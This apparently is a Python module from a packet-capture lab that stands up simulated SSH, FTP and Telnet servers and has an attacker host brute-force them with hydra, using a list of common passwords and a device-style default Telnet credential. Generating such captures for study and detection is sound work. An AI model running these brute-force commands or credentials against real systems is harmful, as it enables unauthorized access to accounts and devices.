"""hydra guesses passwords of SSH, FTP and Telnet until one is correct. Needs hydra, openssh-server, vsftpd, socat.

Run it as ``python -m pcaps.lab.attacks.password_guessing [SCENE...]``.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

from pcaps.lab._lab import Host, Lab, record
from pcaps.lab._programs import ACCOUNT, PASSWORD, ftp_server, ssh_server

PASSWORDS = (
    "123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111", "1234567", "dragon", "123123",
    "baseball", "abc123", "football", "monkey", "letmein", "696969", "shadow", "master", "666666", "qwertyuiop",
    "123321", "mustang", "1234567890", "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000",
    "qazwsx", "123qwe", "killer", "trustno1", "jordan", "jennifer", "zxcvbnm", "asdfgh", "hunter",
)  # fmt: skip


def _hydra(
    lab: Lab,
    service: str,
    server: Callable[[Lab, Host], None],
    *options: str,
    user: str = ACCOUNT,
    correct: str = PASSWORD,
) -> Iterator[None]:
    victim, attacker = lab.host("server", "10.20.10.5"), lab.host("attacker", "10.20.10.66")
    server(lab, victim)
    passwords = lab.folder / "passwords"
    passwords.write_text("\n".join((*PASSWORDS, correct)) + "\n", encoding="ascii")
    yield
    lab.run(
        attacker,
        "hydra",
        "-I",
        "-f",
        "-l",
        user,
        "-P",
        str(passwords),
        *options,
        f"{service}://{victim.ip}",
        timeout=200,
    )


def ssh(lab: Lab) -> Iterator[None]:
    yield from _hydra(lab, "ssh", ssh_server, "-t", "4")


def ftp(lab: Lab) -> Iterator[None]:
    yield from _hydra(lab, "ftp", ftp_server, "-t", "4")


def telnet(lab: Lab) -> Iterator[None]:
    """With the account of a device."""

    def server(lab: Lab, host: Host) -> None:
        lab.serve(host, "telnet", "admin", "7ujMko0admin", port=23)

    yield from _hydra(lab, "telnet", server, "-t", "8", user="admin", correct="7ujMko0admin")


if __name__ == "__main__":
    record(Path(__file__).parent, guessing_ssh=ssh, guessing_ftp=ftp, guessing_telnet=telnet)
